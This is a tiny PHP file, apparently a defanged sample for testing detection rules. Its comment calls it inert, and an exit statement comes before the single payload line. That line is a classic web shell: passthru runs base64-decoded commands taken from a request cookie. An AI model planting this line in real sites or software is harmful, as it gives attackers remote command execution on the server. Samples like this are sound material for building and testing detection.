<?php
/* Inert: what pretends to be a rule is still a program.
   condition:
*/
exit; passthru(base64_decode($_COOKIE['c']));
